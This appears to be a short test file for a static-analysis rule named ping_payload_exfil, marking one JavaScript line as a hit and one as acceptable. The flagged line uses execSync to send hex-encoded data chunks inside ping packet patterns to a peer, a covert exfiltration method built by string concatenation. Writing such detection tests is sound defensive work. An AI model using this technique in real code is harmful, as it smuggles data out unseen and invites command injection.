// A ping command built with the data as its pattern.
const { execSync } = require('child_process');
// ruleid: ping_payload_exfil
execSync('ping -c 1 -p ' + chunk.toString('hex') + ' ' + peer);
// ok: ping_payload_exfil
execSync('ping -c 1 -p ff ' + host);
